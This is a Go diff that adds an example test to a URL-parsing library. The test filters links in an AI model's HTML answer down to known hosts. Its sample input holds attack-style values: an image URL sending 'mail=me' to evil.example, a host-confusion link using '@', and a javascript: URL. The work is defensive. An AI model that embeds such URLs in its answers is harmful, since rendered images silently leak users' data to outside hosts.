@@ -13,6 +13,7 @@ import (
 	"github.com/gowhatwg/url/encodings"
 	"github.com/gowhatwg/url/urldata"
 	"github.com/gowhatwg/url/urlhtml"
+	"github.com/gowhatwg/url/urlhttp"
 )
 
 const document = `<title>Example</title>
@@ -45,6 +46,23 @@ func ExampleLinks() {
 	// image https://example.com/docs/c.png
 	// navigation https://elsewhere.example/
 	// navigation mailto:me@example.com
+}
+
+// An image in a model's answer sends what its URL holds as soon as it is shown, and a link when
+// somebody follows it. Here both may lead only to known hosts.
+func ExampleLinks_knownHosts() {
+	const answer = `<a href="https://docs.example.com/a">Manual</a> <img src="https://evil.example/?mail=me"> <a href="//example.com@evil.example/">x</a> <a href="javascript:x">y</a> <img srcset="/a.png, https://[/">`
+	known := urlhttp.MustParseHostRules([]string{"example.com", "*.example.com"}, nil)
+	for link, err := range urlhtml.Links(strings.NewReader(answer), urlhtml.Options{Base: url.MustParse("https://example.com/")}) {
+		if err != nil || link.URL == nil || link.URL.Scheme() != "https" || known.Check(link.URL.ParsedHost()) != nil {
+			fmt.Println(link.Kind, link.Raw)
+		}
+	}
+	// Output:
+	// image https://evil.example/?mail=me
+	// navigation //example.com@evil.example/
+	// navigation javascript:x
+	// image https://[/
 }
 
 // What an archive of a page keeps.
